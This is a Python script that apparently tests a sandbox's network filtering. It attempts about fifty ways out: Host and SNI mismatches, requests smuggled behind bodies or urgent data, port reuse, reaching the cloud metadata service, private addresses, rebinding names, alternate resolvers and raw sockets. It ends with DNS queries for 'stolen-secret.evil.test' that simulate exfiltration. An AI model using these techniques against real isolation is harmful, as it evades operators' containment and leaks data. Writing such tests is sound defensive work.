"""Tries to get out in every way that the tests know; one line of JSON each. `ok` means that the attempt got through."""
import json, socket, ssl, struct, sys, time

SHARED, RESOLVER, PRIVATE, METADATA, OUTSIDE = '198.51.100.10', '198.51.100.53', '10.99.0.5', '169.254.169.254', '198.51.100.1'


def tcp(host, port, data=b'', family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((host, port))
    if data:
        s.sendall(data)
    return s


def read(s):
    out = b''
    while True:
        part = s.recv(65536)
        if not part:
            return out
        out += part


def get(host, site=None, port=80, before=b''):
    def run():
        request = before + f'GET / HTTP/1.1\r\nHost: {site or host}\r\nConnection: close\r\n\r\n'.encode()
        return read(tcp(host, port, request))
    return run


def expect(word, run):
    def checked():
        out = run()
        assert word.encode() in out, out[:120]
        return out
    return checked


def keep_alive():
    s = tcp('good.test', 80, b'GET / HTTP/1.1\r\nHost: good.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
    return read(s)


def pieces():
    s = tcp('good.test', 80)
    for part in (b'G', b'ET / HT', b'TP/1.1\r\nHo', b'st: evil.test\r\nConnection: close\r\n\r\n'):
        s.sendall(part)
        time.sleep(0.15)
    return read(s)


def request(site, more='Connection: close\r\n', path='/', method='GET'):
    return f'{method} {path} HTTP/1.1\r\nHost: {site}\r\n{more}\r\n'.encode()


def after_answer(first):
    def run():
        s = tcp('good.test', 80, first)
        s.recv(65536)
        time.sleep(0.05)
        s.sendall(request('evil.test'))
        return read(s)
    return run


def behind(first):
    return lambda: read(tcp('good.test', 80, first + request('evil.test')))


UPGRADE = 'Connection: Upgrade\r\nUpgrade: websocket\r\n'


def upload(size, path='/'):
    return request('good.test', f'Content-Length: {size}\r\n', path, 'PUT')


def on_used_port(first):
    # The second call comes from the port of the first, whose connection `first` has ended.
    def run():
        s = tcp('good.test', 80)
        port = s.getsockname()[1]
        first(s)
        s.close()
        again = socket.socket()
        again.settimeout(5)
        again.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        again.bind(('', port))
        again.connect((socket.gethostbyname('good.test'), 80))
        again.sendall(request('evil.test'))
        return read(again)
    return run


def until_reset(s):
    try:
        read(s)
    except ConnectionResetError:
        pass


def freed(s):
    s.sendall(request('good.test', UPGRADE))
    s.recv(200)
    s.sendall(b'reset')
    until_reset(s)


def cut_by_host(s):
    s.sendall(upload(1_000_000_000, '/reset'))
    until_reset(s)


def cut_by_script(s):
    s.sendall(upload(1_000_000_000) + b'x' * 100_000)
    time.sleep(0.05)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))


def after_large_body():
    s = tcp('good.test', 80, upload(3_000_000) + b'x' * 3_000_000)
    assert b'got 3000000' in s.recv(65536)
    s.sendall(request('evil.test'))
    return read(s)


def urgent_in_large_body():
    s = tcp('good.test', 80, upload(1_000_000) + b'x' * 500_000)
    s.send(b'!', socket.MSG_OOB)
    s.sendall(b'x' * 500_000 + request('evil.test'))
    return read(s)


def byte_by_byte():
    s = tcp('good.test', 80)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in request('evil.test'):
        s.send(bytes([byte]))
    return read(s)


def urgent():
    s = tcp('good.test', 80)
    s.send(b'GET / HT')
    s.send(b'x', socket.MSG_OOB)
    s.sendall(request('evil.test')[8:])
    return read(s)


def fast_open():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack('ll', 5, 0))
    s.sendto(request('evil.test'), 0x20000000, ('good.test', 80))
    s.settimeout(5)
    return read(s)


def tls_pieces():
    context = ssl._create_unverified_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    talk = context.wrap_bio(incoming, outgoing, server_hostname='evil.test')
    s = tcp('good.test', 443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    while True:
        try:
            talk.do_handshake()
            return b'site shaken hands'
        except ssl.SSLWantReadError:
            data = outgoing.read()
            for i in range(0, len(data), 50):
                s.send(data[i:i + 50])
            data = s.recv(65536)
            assert data, 'closed'
            incoming.write(data)


def two_hosts():
    return read(tcp('good.test', 80, b'GET / HTTP/1.1\r\nHost: good.test\r\nX: y\r\nHost: evil.test\r\nConnection: close\r\n\r\n'))


def absolute():
    return read(tcp('good.test', 80, b'GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n'))


def tls(host, name):
    def run():
        context = ssl._create_unverified_context()
        with context.wrap_socket(tcp(host, 443), server_hostname=name) as s:
            s.sendall(f'GET / HTTP/1.1\r\nHost: {name or host}\r\nConnection: close\r\n\r\n'.encode())
            return read(s)
    return run


def question(name, kind=1):
    labels = b''.join(bytes([len(part)]) + part.encode() for part in name.split('.'))
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)


def ask_udp(server, name, kind=1):
    def run():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.connect((server, 53))
        s.send(question(name, kind))
        out = s.recv(4096)
        assert out[3] & 15 == 0 and out[7] > 0, out[:12]
        return out
    return run


def ask_tcp(server, name):
    def run():
        q = question(name)
        out = tcp(server, 53, struct.pack('>H', len(q)) + q).recv(4096)
        assert out[5] & 15 == 0 and out[9] > 0, out[:14]
        return out
    return run


def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((host, port))
    s.send(b'hello')
    return s.recv(100)


def icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(5)
    s.sendto(b'\x08\0\xf7\xff\0\0\0\0', (SHARED, 0))
    return s.recv(100)


def router():
    for line in open('/proc/net/route').read().splitlines()[1:]:
        parts = line.split()
        if parts[1] == '00000000':
            return socket.inet_ntoa(struct.pack('<I', int(parts[2], 16)))


ATTACKS = {
    'an allowed name': expect('site good.test', get('good.test')),
    'an allowed name over TLS': expect('site good.test', tls('good.test', 'good.test')),
    'a name under a wildcard': expect('site a.wild.test', get('a.wild.test')),
    'a name with an underscore': expect('site _srv.test', get('_srv.test')),
    'an unlisted name': expect('site evil.test', get('evil.test')),
    'the parent of a wildcard': expect('site wild.test', get('wild.test')),
    'a name that ends like a wildcard': expect('site evilwild.test', get('evilwild.test')),
    'another site by Host': expect('site evil.test', get('good.test', 'evil.test')),
    'another site by Host after an empty line': expect('site evil.test', get('good.test', 'evil.test', before=b'\r\n')),
    'another site in pieces': expect('site evil.test', pieces),
    'another site in a second request': expect('site evil.test', keep_alive),
    'another site after an answer': expect('site evil.test', after_answer(request('good.test', ''))),
    'another site after a switch that was declined': expect('site evil.test', after_answer(request('good.test', UPGRADE, '/plain'))),
    'another site behind a body': expect('site evil.test', behind(request('good.test', 'Content-Length: 5\r\n', method='POST') + b'hello')),
    'another site behind a large body': expect('site evil.test', behind(upload(1_000_000) + b'x' * 1_000_000)),
    'another site after a large body': expect('site evil.test', after_large_body),
    'another site behind urgent data in a large body': expect('site evil.test', urgent_in_large_body),
    'another site on a port that was free': expect('site evil.test', on_used_port(freed)),
    'another site on a port whose body the host cut': expect('site evil.test', on_used_port(cut_by_host)),
    'another site on a port whose body the script cut': expect('site evil.test', on_used_port(cut_by_script)),
    'another site behind chunks': expect('site evil.test', behind(request('good.test', 'Transfer-Encoding: chunked\r\n', method='POST') + b'5\r\nhello\r\n0\r\n\r\n')),
    'another site byte by byte': expect('site evil.test', byte_by_byte),
    'another site behind urgent data': expect('site evil.test', urgent),
    'another site with the call': expect('site evil.test', fast_open),
    'garbage before the request': expect('HTTP/1.1 400', lambda: read(tcp('good.test', 80, b'\0\1\r\n' + request('evil.test')))),
    'another site by TLS name in pieces': expect('site', tls_pieces),
    'another site by TLS name': expect('site evil.test', tls('good.test', 'evil.test')),
    'no TLS name': expect('site', tls('good.test', None)),
    'an unlisted port of an allowed name': expect('ssh', lambda: tcp('good.test', 22).recv(50)),
    'an address': expect('site x', get(SHARED, 'x')),
    'an address over TLS': expect('site', tls(SHARED, 'good.test')),
    'a datagram': lambda: udp(SHARED, 5000),
    'another resolver': ask_udp(RESOLVER, 'evil.test'),
    'another resolver over TCP': ask_tcp(RESOLVER, 'evil.test'),
    'a private address': expect('site x', get(PRIVATE, 'x')),
    'a name for a private address': expect('site inner.test', get('inner.test')),
    'the metadata service': expect('site x', get(METADATA, 'x')),
    'a name for the metadata service': expect('site rebind.test', get('rebind.test')),
    "the engine's machine": lambda: tcp(OUTSIDE, 8081).recv(50),
    'the router': lambda: tcp(router(), 8081).recv(50),
    "the engine's resolver": lambda: tcp('127.0.0.11', 1024).recv(1),
    "the relay itself": lambda: tcp('127.0.0.1', 61000).recv(1) or 1 / 0,
    'a listed address': expect('other', lambda: tcp(SHARED, 8443).recv(50)),
    'IPv6': lambda: tcp('2001:db8::1', 80, family=socket.AF_INET6),
    'a link-local IPv6 address': lambda: tcp('fe80::1', 80, family=socket.AF_INET6),
    'an echo': icmp,
    'a raw socket': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
    'a packet socket': lambda: socket.socket(17, socket.SOCK_RAW, 0),
    'the packet filter': lambda: socket.socket(16, socket.SOCK_RAW, 12),
    'the hypervisor': lambda: socket.socket(40, socket.SOCK_STREAM, 0),
}

for name, run in ATTACKS.items():
    begun = time.time()
    try:
        ok, detail = True, repr(run())[:80]
    except Exception as problem:
        ok, detail = False, repr(problem)[:120]
    print(json.dumps({'name': name, 'ok': ok, 'detail': detail, 'ms': round((time.time() - begun) * 1000)}), flush=True)

for name in ('stolen-secret.evil.test', 'stolen-secret.good.test'):
    for kind in (1, 28, 16, 15, 255, 65):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(5)
            s.connect(('127.0.0.11', 53))
            s.send(question(name, kind))
            s.recv(4096)
        except OSError:
            pass
